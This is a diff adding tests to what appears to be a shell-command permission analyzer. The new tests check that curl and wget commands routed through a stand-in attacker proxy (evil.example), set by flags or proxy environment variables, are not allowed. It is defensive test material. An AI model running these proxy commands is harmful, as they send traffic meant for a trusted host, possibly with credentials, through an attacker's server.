@@ -55,3 +55,22 @@ describe('exact forms balanced allows past an ask rule', () => {
     });
   }
 });
+
+describe('a proxy sends an allowed-host request elsewhere', () => {
+  let analyzer: CommandAnalyzer;
+  before(async () => { analyzer = await loadAnalyzer(); });
+  const lines = ['curl -x http://evil.example:8080 https://github.com/x', 'curl --proxy=evil.example:3128 https://github.com/x',
+    'curl --preproxy socks5://evil.example https://github.com/x', 'https_proxy=http://evil.example:8080 curl https://github.com/x',
+    'ALL_PROXY=socks5://evil.example curl https://github.com/x', 'export HTTPS_PROXY=http://evil.example; curl https://github.com/x',
+    'env http_proxy=http://evil.example wget http://github.com/x'];
+  for (const line of lines) {
+    it(`not-allow: ${line}`, () => {
+      const [verdict] = judgeCorpus(analyzer, [{ command: line, category: 'proxy', source: 'curl(1) ENVIRONMENT, --proxy' }]);
+      assert.notEqual(verdict?.decision, 'allow', verdict?.reason);
+    });
+  }
+  it('allow: curl -x to an allowed host', () => {
+    const [verdict] = judgeCorpus(analyzer, [{ command: 'curl -x https://github.com https://github.com/x', category: 'proxy', source: 'curl(1)' }]);
+    assert.equal(verdict?.decision, 'allow', verdict?.reason);
+  });
+});
